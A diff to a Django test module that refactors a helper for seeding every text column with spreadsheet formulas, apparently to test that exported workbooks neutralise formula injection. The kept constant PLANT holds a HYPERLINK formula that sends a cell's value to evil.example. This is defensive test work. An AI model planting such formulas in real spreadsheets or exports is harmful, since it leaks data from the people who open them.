@@ -12,7 +12,7 @@ import pytest
 from django.contrib import admin
 from django.contrib.auth.models import AnonymousUser
 from django.core.management import call_command
-from django.db import IntegrityError, models, transaction
+from django.db import IntegrityError, transaction
 from django.test import RequestFactory
 from openpyxl import load_workbook
 
@@ -21,49 +21,27 @@ from jeonju_center.api.urls import all_routes
 from jeonju_center.common.spreadsheets import neutralize, starts_like_a_formula
 from jeonju_center.partners.scopes import SCOPES
 from tests.api.support import partner_client
+from tests.text_columns import text_columns
 
 PLANT = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'
-DOMAIN_APPS = {
-    "regeneration",
-    "social_economy",
-    "ondure",
-    "courses",
-    "news",
-    "common",
-    "accounts",
-    "partners",
-}
-# Machine values whose format other code relies on (identifiers, codes, contact data, files).
-NOT_TEXT = {
-    "slug", "username", "password", "token", "key", "hash", "code", "number", "path", "ip", "dedup", "url",
-    "website", "email", "mime", "content", "file", "object", "resource", "registration", "prefix", "image",
-    "photo", "attachment", "headers", "agent", "method", "id", "label", "status", "unit",
-}  # fmt: skip
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _plant_formulas():
     """Every human text column of every row now starts like a formula (unique per row)."""
     planted = 0
-    for model in __import__("django.apps", fromlist=["apps"]).apps.get_models():
-        if model._meta.app_label not in DOMAIN_APPS or model.__name__.startswith("Historical"):
-            continue
+    for model, field in text_columns(also_not_text={"label", "status", "unit"}):
         if model._meta.label_lower == "common.personaldataaccess":
             continue  # append-only by design
-        for field in model._meta.concrete_fields:
-            if not isinstance(field, models.CharField | models.TextField) or field.choices:
-                continue
-            if NOT_TEXT & set(field.name.split("_")) or field.primary_key:
-                continue
-            for pk in model._default_manager.values_list("pk", flat=True):
-                value = f"={pk}+{PLANT[1:]}"  # the row's number first: unique even when cut to max_length
-                value = value[: field.max_length] if field.max_length else value
-                try:
-                    with transaction.atomic():
-                        model._default_manager.filter(pk=pk).update(**{field.name: value})
-                except IntegrityError:
-                    continue  # a column a constraint keeps empty or shaped (e.g. only cooperatives file)
-                planted += 1
+        for pk in model._default_manager.values_list("pk", flat=True):
+            value = f"={pk}+{PLANT[1:]}"  # the row's number first: unique even when cut to max_length
+            value = value[: field.max_length] if field.max_length else value
+            try:
+                with transaction.atomic():
+                    model._default_manager.filter(pk=pk).update(**{field.name: value})
+            except IntegrityError:
+                continue  # a column a constraint keeps empty or shaped (e.g. only cooperatives file)
+            planted += 1
     return planted
 
 
